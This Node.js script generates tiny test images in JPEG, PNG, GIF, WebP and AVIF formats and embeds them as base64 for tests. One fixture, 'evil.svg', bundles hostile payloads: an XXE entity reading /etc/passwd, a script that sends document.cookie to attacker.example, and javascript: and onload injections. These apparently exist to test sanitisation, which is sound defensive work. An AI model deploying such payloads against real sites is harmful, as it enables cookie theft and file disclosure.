#!/usr/bin/env node
/**
 * Writes the tiny sample images under test/fixtures/ plus test/fixtures/index.ts,
 * which embeds them as base64 because the tests run inside workerd (no fs).
 *
 * Every file is assembled byte by byte here so the fixtures are reproducible
 * without ImageMagick or libvips. Each image has its own odd size so the tests
 * prove that dimensions are read from the headers rather than guessed.
 *
 * Usage: node scripts/make-fixtures.mjs
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { deflateSync } from "node:zlib";
import { PNG_SIGNATURE, pngChunk, u32be } from "./lib/png.mjs";

const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const outDir = join(root, "test", "fixtures");

/** @param {...(number[] | Uint8Array | Buffer)} parts */
function concat(...parts) {
	return Buffer.concat(parts.map((p) => Buffer.from(p)));
}

function u16be(n) {
	return [(n >>> 8) & 0xff, n & 0xff];
}

function u16le(n) {
	return [n & 0xff, (n >>> 8) & 0xff];
}

function u24le(n) {
	return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff];
}

function u32le(n) {
	return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
}

function ascii(s) {
	return Buffer.from(s, "latin1");
}

// ---------------------------------------------------------------- JPEG 3x2

/**
 * Baseline greyscale JPEG with a single 8x8 block. With one-symbol Huffman
 * tables (DC category 0, AC end-of-block, each coded as the 1-bit code "0")
 * the whole scan is two zero bits padded with ones, so the encoder fits in a
 * few lines and libjpeg decodes it as flat mid-grey.
 */
function makeJpeg(width, height) {
	const segment = (marker, body) => concat([0xff, marker], u16be(body.length + 2), body);
	const jfif = segment(0xe0, concat(ascii("JFIF\0"), [1, 1, 0], u16be(1), u16be(1), [0, 0]));
	const comment = segment(0xfe, ascii("atrium fixture"));
	const dqt = segment(0xdb, concat([0x00], new Array(64).fill(1)));
	const sof0 = segment(0xc0, concat([8], u16be(height), u16be(width), [1, 1, 0x11, 0]));
	const oneSymbol = (tableClassAndId, symbol) =>
		segment(0xc4, concat([tableClassAndId, 1], new Array(15).fill(0), [symbol]));
	const sos = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
	return concat(
		[0xff, 0xd8],
		jfif,
		comment,
		dqt,
		sof0,
		oneSymbol(0x00, 0),
		oneSymbol(0x10, 0),
		sos,
		[0x3f],
		[0xff, 0xd9],
	);
}

// ---------------------------------------------------------------- PNG 5x4

function makePng(width, height) {
	const ihdr = concat(u32be(width), u32be(height), [8, 2, 0, 0, 0]);
	const rows = [];
	for (let y = 0; y < height; y++) {
		rows.push(0); // filter type "none"
		for (let x = 0; x < width; x++) rows.push((x * 50) & 0xff, (y * 60) & 0xff, 0x80);
	}
	return concat(
		PNG_SIGNATURE,
		pngChunk("IHDR", ihdr),
		pngChunk("IDAT", deflateSync(Buffer.from(rows))),
		pngChunk("IEND", []),
	);
}

// ---------------------------------------------------------------- GIF 7x6

/**
 * GIF89a with a two-colour palette. The LZW stream re-sends a clear code
 * after every two literals so the code width never grows past 3 bits, which
 * keeps the encoder trivial and avoids the "early change" ambiguity.
 */
function makeGif(width, height) {
	const minCodeSize = 2;
	const clear = 1 << minCodeSize;
	const eoi = clear + 1;
	const codes = [];
	for (let i = 0; i < width * height; i++) {
		if (i % 2 === 0) codes.push(clear);
		codes.push((i + Math.floor(i / width)) % 2);
	}
	codes.push(eoi);
	const bytes = [];
	let acc = 0;
	let bits = 0;
	for (const code of codes) {
		acc |= code << bits;
		bits += 3;
		while (bits >= 8) {
			bytes.push(acc & 0xff);
			acc >>>= 8;
			bits -= 8;
		}
	}
	if (bits > 0) bytes.push(acc & 0xff);
	const subBlocks = [];
	for (let i = 0; i < bytes.length; i += 255) {
		const block = bytes.slice(i, i + 255);
		subBlocks.push(block.length, ...block);
	}
	return concat(
		ascii("GIF89a"),
		u16le(width),
		u16le(height),
		[0x80, 0, 0], // global colour table of 2 entries
		[0xff, 0x80, 0x00, 0x00, 0x40, 0xff],
		[0x2c],
		u16le(0),
		u16le(0),
		u16le(width),
		u16le(height),
		[0x00],
		[minCodeSize],
		subBlocks,
		[0x00, 0x3b],
	);
}

// ---------------------------------------------------------------- WebP

function riffChunk(fourcc, payload) {
	const pad = payload.length % 2 === 1 ? [0] : [];
	return concat(ascii(fourcc), u32le(payload.length), payload, pad);
}

function webpFile(...chunks) {
	const body = concat(ascii("WEBP"), ...chunks);
	return concat(ascii("RIFF"), u32le(body.length), body);
}

/**
 * VP8 key frame whose partitions are all zero bytes. A boolean decoder fed
 * zeros only ever yields 0, which spells out a valid frame: no segmentation,
 * no loop filter, no probability updates, B_PRED/B_DC_PRED modes and an
 * immediate end-of-block for every coefficient block, i.e. flat grey.
 */
function vp8Payload(width, height) {
	const firstPartition = new Array(48).fill(0);
	const tokenPartition = new Array(16).fill(0);
	const frameTag =
		(0 /* key frame */ | (0 << 1) /* version */ | (1 << 4) /* show */ | (firstPartition.length << 5)) >>> 0;
	return concat(
		u24le(frameTag),
		[0x9d, 0x01, 0x2a],
		u16le(width & 0x3fff),
		u16le(height & 0x3fff),
		firstPartition,
		tokenPartition,
	);
}

/**
 * VP8L image with no transforms, no colour cache and single-symbol prefix
 * codes for every channel, so each pixel costs zero bits and the stream is a
 * handful of header bits.
 */
function vp8lPayload(width, height, alpha) {
	const bytes = [0x2f];
	let acc = 0n;
	let bits = 0n;
	const put = (value, count) => {
		acc |= BigInt(value) << bits;
		bits += BigInt(count);
	};
	put(width - 1, 14);
	put(height - 1, 14);
	put(alpha < 255 ? 1 : 0, 1);
	put(0, 3); // version
	put(0, 1); // no transform
	put(0, 1); // no colour cache
	put(0, 1); // no meta prefix codes
	for (const symbol of [0x90, 0x30, 0xc0, alpha]) {
		put(1, 1); // simple code
		put(0, 1); // one symbol
		put(1, 1); // 8-bit symbol
		put(symbol, 8);
	}
	put(1, 1); // distance code: simple, one 1-bit symbol
	put(0, 1);
	put(0, 1);
	put(0, 1);
	const total = Number((bits + 7n) / 8n);
	for (let i = 0; i < total; i++) bytes.push(Number((acc >> BigInt(i * 8)) & 0xffn));
	// Trailing zeros keep libwebp's 64-bit prefetch from flagging end-of-stream.
	bytes.push(0, 0, 0, 0, 0, 0, 0, 0);
	return bytes;
}

function makeWebpLossy(width, height) {
	return webpFile(riffChunk("VP8 ", vp8Payload(width, height)));
}

function makeWebpLossless(width, height) {
	return webpFile(riffChunk("VP8L", vp8lPayload(width, height, 0xff)));
}

function makeWebpExtended(width, height) {
	const flags = 0x10; // alpha
	const vp8x = concat([flags, 0, 0, 0], u24le(width - 1), u24le(height - 1));
	return webpFile(riffChunk("VP8X", vp8x), riffChunk("VP8L", vp8lPayload(width, height, 0x80)));
}

// ---------------------------------------------------------------- AVIF 15x14

function box(type, ...content) {
	const body = concat(...content);
	return concat(u32be(body.length + 8), ascii(type), body);
}

function fullBox(type, version, flags, ...content) {
	return box(type, [version, (flags >>> 16) & 0xff, (flags >>> 8) & 0xff, flags & 0xff], ...content);
}

/**
 * Still-image AVIF: ftyp + meta(hdlr, pitm, iloc, iinf, iprp(ipco, ipma)) +
 * mdat. The AV1 payload and av1C record are a 15x14 frame encoded once by
 * libaom (via libvips) and recorded here verbatim; the boxes around them are
 * built from scratch so their layout is explicit.
 */
function makeAvif() {
	const av1Frame = Buffer.from("12000a09180cfb582021a0d080320d1b001a69a684000093179497cc", "hex");
	const av1C = box("av1C", Buffer.from("81000c00", "hex"));
	const width = 15;
	const height = 14;

	const ftyp = box("ftyp", ascii("avif"), u32be(0), ascii("mif1"), ascii("avif"), ascii("miaf"));
	const hdlr = fullBox("hdlr", 0, 0, u32be(0), ascii("pict"), u32be(0), u32be(0), u32be(0), [0]);
	const pitm = fullBox("pitm", 0, 0, u16be(1));
	const infe = fullBox("infe", 2, 0, u16be(1), u16be(0), ascii("av01"), [0]);
	const iinf = fullBox("iinf", 0, 0, u16be(1), infe);
	const ispe = fullBox("ispe", 0, 0, u32be(width), u32be(height));
	const pixi = fullBox("pixi", 0, 0, [3, 8, 8, 8]);
	const ipco = box("ipco", av1C, ispe, pixi);
	// Property indices are 1-based; av1C is essential (high bit set).
	const ipma = fullBox("ipma", 0, 0, u32be(1), u16be(1), [3, 0x81, 0x02, 0x03]);
	const iprp = box("iprp", ipco, ipma);

	// iloc needs the absolute offset of the frame, which depends on the size
	// of meta itself; iloc's own size does not depend on the value, so build
	// it twice.
	const iloc = (offset) =>
		fullBox("iloc", 0, 0, [0x44, 0x00], u16be(1), u16be(1), u16be(0), u16be(1), u32be(offset), u32be(av1Frame.length));
	const meta = (offset) => fullBox("meta", 0, 0, hdlr, pitm, iloc(offset), iinf, iprp);
	const frameOffset = ftyp.length + meta(0).length + 8;
	return concat(ftyp, meta(frameOffset), box("mdat", av1Frame));
}

// ---------------------------------------------------------------- SVG

const evilSvg = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" onload="alert(document.cookie)">
	<script>fetch("https://attacker.example/?c=" + document.cookie)</script>
	<foreignObject width="16" height="16"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject>
	<text>&xxe;</text>
</svg>
`;

// ---------------------------------------------------------------- output

const fixtures = {
	"tiny.jpg": makeJpeg(3, 2),
	"tiny.png": makePng(5, 4),
	"tiny.gif": makeGif(7, 6),
	"tiny.webp": makeWebpLossy(9, 8),
	"tiny-lossless.webp": makeWebpLossless(11, 10),
	"tiny-vp8x.webp": makeWebpExtended(13, 12),
	"tiny.avif": makeAvif(),
	"evil.svg": Buffer.from(evilSvg, "utf8"),
};

mkdirSync(outDir, { recursive: true });
for (const [name, bytes] of Object.entries(fixtures)) {
	writeFileSync(join(outDir, name), bytes);
}

// Lay entries out the way Biome would (120 columns, a tab counting as 2) so
// that regenerating does not produce formatting churn.
const entries = Object.entries(fixtures)
	.map(([name, bytes]) => {
		const oneLine = `\t"${name}": "${bytes.toString("base64")}",`;
		return oneLine.length + 1 <= 120 ? oneLine : `\t"${name}":\n\t\t"${bytes.toString("base64")}",`;
	})
	.join("\n");

const index = `// Generated by scripts/make-fixtures.mjs; do not edit by hand.
// The files sit next to this module, but tests run inside workerd without a
// filesystem, so their bytes are embedded here as base64.

export const FIXTURES = {
${entries}
} as const;

export type FixtureName = keyof typeof FIXTURES;

/**
 * Decodes one embedded fixture into a fresh byte array.
 */
export function fixture(name: FixtureName): Uint8Array {
	const binary = atob(FIXTURES[name]);
	const bytes = new Uint8Array(binary.length);
	for (let i = 0; i < binary.length; i++) {
		bytes[i] = binary.charCodeAt(i);
	}
	return bytes;
}
`;

writeFileSync(join(outDir, "index.ts"), index);

for (const [name, bytes] of Object.entries(fixtures)) {
	console.log(`${name.padEnd(20)} ${bytes.length} bytes`);
}
